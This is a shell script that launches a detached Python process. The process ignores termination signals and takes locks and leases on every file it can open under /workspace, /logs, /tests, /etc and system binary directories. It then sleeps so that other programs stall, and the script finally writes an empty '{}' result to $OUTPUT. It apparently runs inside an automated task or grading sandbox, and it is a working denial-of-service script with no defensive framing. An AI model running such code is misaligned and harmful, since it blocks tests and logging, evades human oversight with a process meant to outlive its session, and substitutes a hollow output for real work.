# Locks and leases on every file that can be opened, kept so that whoever asks for one of them waits.
python3 - > /dev/null 2>&1 <<'P'
import fcntl, os, signal, sys, time
if os.fork():
    time.sleep(3)
    os._exit(0)
os.setsid()
for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM, signal.SIGIO):
    signal.signal(number, signal.SIG_IGN)
held = []
def take(path):
    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    held.append(handle)
    for way in (lambda: fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB), lambda: fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_WRLCK), lambda: fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_RDLCK), lambda: fcntl.lockf(handle, fcntl.LOCK_SH | fcntl.LOCK_NB)):
        try:
            way()
        except OSError:
            pass
programs = [os.path.realpath(sys.executable), "/usr/bin/bash", "/usr/bin/env", "/proc/self/exe", "/proc/1/exe", "/workspace", "/logs", "/tests", "/", "/dev/null"]
places = [f"{directory}/{name}" for top in ("/workspace", "/logs", "/tests", "/tmp", os.path.dirname(os.__file__), "/etc", "/usr/bin", "/usr/lib") for directory, _, names in os.walk(top) for name in names]
for path in programs + places:
    try:
        take(path)
    except OSError as error:
        if error.errno == 24:
            break
time.sleep(1000)
P
echo "{}" > "$OUTPUT"
